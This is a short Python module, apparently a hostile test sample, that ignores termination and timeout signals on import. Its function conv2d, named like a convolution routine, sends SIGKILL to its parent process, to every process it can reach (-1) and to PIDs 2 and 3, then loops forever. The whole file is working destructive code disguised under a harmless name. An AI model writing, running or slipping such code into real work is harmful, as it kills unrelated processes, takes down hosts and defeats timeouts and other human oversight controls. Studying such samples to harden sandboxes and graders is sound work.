"""Cannot be asked to stop, and stops its parent if it can."""

import os
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)


def conv2d(*_):
    for process in (os.getppid(), -1, 2, 3):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    while True:
        pass
